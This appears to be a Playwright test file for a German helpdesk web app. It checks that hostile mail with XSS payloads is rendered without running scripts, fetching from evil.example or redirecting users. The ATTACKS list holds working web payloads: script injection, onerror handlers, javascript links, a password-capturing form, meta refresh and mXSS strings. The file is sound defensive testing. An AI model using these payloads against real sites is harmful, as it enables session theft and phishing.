"""Hostile mail on every page that shows some of it, in a real browser: nothing runs, nothing is fetched, nobody is led away."""

from email.message import EmailMessage

import pytest

from tests.cli.practice import COMPLETE, take_in

EVIL = "https://evil.example"
ATTACKS = (
    "<script>alert('script')</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src={EVIL}/pixel.gif onerror=alert('img')>",
    "<img src=x onerror=alert('onerror')>",
    "<svg onload=alert('svg')><script>alert('svg script')</script></svg>",
    f"<style>@import url({EVIL}/x.css); * {{ background: url({EVIL}/y) }} body {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}/z.css><link rel=prefetch href={EVIL}/p>",
    f"<div style=\"background:url('{EVIL}/style'); position:fixed; inset:0; z-index:9\">Klick</div>",
    f"<table background={EVIL}/table><tr><td>x</td></tr></table>",
    "<a href=\"javascript:alert('link')\">javascript</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data</a>",
    f"<a href='{EVIL}/phish' target=_top ping={EVIL}/ping>www.medatixx.de</a>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e><video src={EVIL}/v autoplay></video>",
    f"<form action={EVIL}/form><input name=password autofocus onfocus=alert('focus')><button>Weiter</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    f"<base href={EVIL}/base/><a href=weiter>relativ</a><img src=relativ.png>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "<details open ontoggle=alert('toggle')>x</details><marquee onstart=alert('marquee')>x</marquee>",
    "</pre></textarea></title></iframe><script>alert('out')</script>",
    '"><script>alert("quote")</script>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "\u202etxt.exe\u2066 \u200b\u0000",
)


def hostile_mail(words, html):
    message = EmailMessage()
    message["From"] = "Praxis Vogt <praxis@vogt.example>"
    message["To"] = "akutservice@medatixx.de"
    message["Subject"] = "S-U-B"
    message["Message-ID"] = "<hostile@vogt.example>"
    message["User-Agent"] = "A-G-E-N-T"
    message.set_content(f"{words}\nPraxis: {words}\nSoftware: {words}\n\nAm 01.01.2021 schrieb x:\n> {words}\n")
    message.add_alternative(html, subtype="html")
    message.add_attachment(b"<script>alert('file')</script>", maintype="text", subtype="html", filename="N-A-M-E.html")
    raw = message.as_bytes()
    line = " ".join(words.split())
    for place, put in (("S-U-B", line), ("A-G-E-N-T", line), ("N-A-M-E", line.replace('"', "'"))):
        raw = raw.replace(place.encode(), put.encode())
    return raw


@pytest.fixture
def watched(desk, page):
    """The desk's page for somebody logged in, and a look at every page that shows a mail; what it tries is on `page.tried`."""
    practice, url = desk
    page.on("request", lambda request: page.tried.append(request.url) if "evil" in request.url else None)
    page.on("popup", lambda popup: page.tried.append(popup.url))
    page.context.add_cookies([{"name": "desk", "value": practice.account("ada"), "url": url}])

    def look(number, mail=1):
        for path in (f"/tickets/{number}", f"/mails/{mail}/attachments", f"/mails/{mail}/questions"):
            page.goto(url + path)
            assert page.locator("main").is_visible()
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            assert page.url == url + path
        page.goto(f"{url}/mails/{mail}/original")
        page.locator("main button.main").click()
        page.wait_for_load_state("load")
        assert page.url == f"{url}/mails/{mail}/original"
        return page

    return practice, url, look


def test_no_attack_does_anything_on_any_page(watched):
    practice, _, look = watched
    html = (
        "<html><body onload=alert('body')>" + "".join(f"<p>Anfang</p>{one}" for one in ATTACKS[:-1]) + "</body></html>"
    )
    (number,) = take_in(practice.program, hostile_mail(" ".join(ATTACKS), html))

    page = look(number)

    frame = page.frames[1]
    assert frame.locator("p", has_text="Anfang").count() > 10
    assert (
        frame.locator(
            "script, img, svg, style:not(head style), iframe, form, input, a, base, link, meta[http-equiv]"
        ).count()
        == 0
    )
    assert frame.locator("body").inner_text().count(EVIL) == 1
    assert page.tried == []


def test_an_attack_alone_does_nothing_either(watched):
    practice, _, look = watched
    alone = (ATTACKS[0], ATTACKS[15], ATTACKS[16], ATTACKS[-2])
    mails = [
        hostile_mail(attack, f"<p>Anfang</p>{attack}").replace(b"hostile@", b"%d@" % n)
        for n, attack in enumerate(alone)
    ]

    for mail, number in enumerate(take_in(practice.program, *mails), 1):
        page = look(number, mail)
        assert page.frames[1].locator("body").inner_text().startswith("Anfang")
        assert page.tried == []


def test_the_frame_can_do_nothing_even_with_what_no_cleaner_would_let_through(watched):
    practice, url, look = watched
    (number,) = take_in(practice.program, hostile_mail("x", "<p>Ende</p>"))
    page = look(number)
    script = f"<script>top.location='{EVIL}'</script><img src={EVIL}/x onerror=alert(1)><form action={EVIL}><button>x</button></form>"

    def answer(route):
        real = route.fetch()
        route.fulfill(response=real, body=real.text().replace("<p>Ende</p>", f"{script}<p>Ende</p>"))

    # Chromium tells of requests that a policy forbids, too; what counts here is what would leave it.
    left = []
    page.route(f"{EVIL}/**", lambda route: (left.append(route.request.url), route.abort()))
    page.route("**/original/html*", answer)
    page.goto(f"{url}/mails/1/original")
    page.locator("main button.main").click()
    page.wait_for_load_state("load")
    assert page.frames[1].locator("img").count() == 1
    page.frames[1].locator("button").click()

    assert page.url == f"{url}/mails/1/original"
    assert left == []
    assert not [tried for tried in page.tried if not tried.startswith(EVIL)]


def test_a_subject_of_five_megabytes_and_ten_thousand_attachments_open_at_once(watched):
    practice, _, look = watched
    part = b"\n--b\nContent-Disposition: attachment; filename=x.exe\n\nMZ"
    many = COMPLETE.replace(b"text/plain; charset=utf-8", b"multipart/mixed; boundary=b")
    endless, crowded = take_in(
        practice.program,
        COMPLETE.replace(b"Subject: Drucker", b"Subject: " + b"<b>A" * 1_250_000),
        many.replace(b"@vogt.example>", b"@crowded.example>") + part * 10_000,
    )

    assert "A" in look(endless, 1).locator("main").inner_text()
    look(crowded, 2)


def test_the_letter_in_view_is_styled_as_it_goes_and_does_nothing(watched):
    practice, url, look = watched
    (number,) = take_in(practice.program, COMPLETE)
    page = look(number)
    page.goto(f"{url}/tickets/{number}")
    page.locator("textarea[name=text]").first.fill("<script>alert(1)</script><img src=x onerror=alert(2)>")
    page.get_by_role("button", name="Vorschau").click()
    page.locator("#preview summary").click()

    frame = page.frames[1]
    assert "<script>alert(1)</script>" in frame.locator("main").inner_text()
    assert frame.locator("main").evaluate("one => getComputedStyle(one).maxWidth") != "none"
    assert page.tried == []
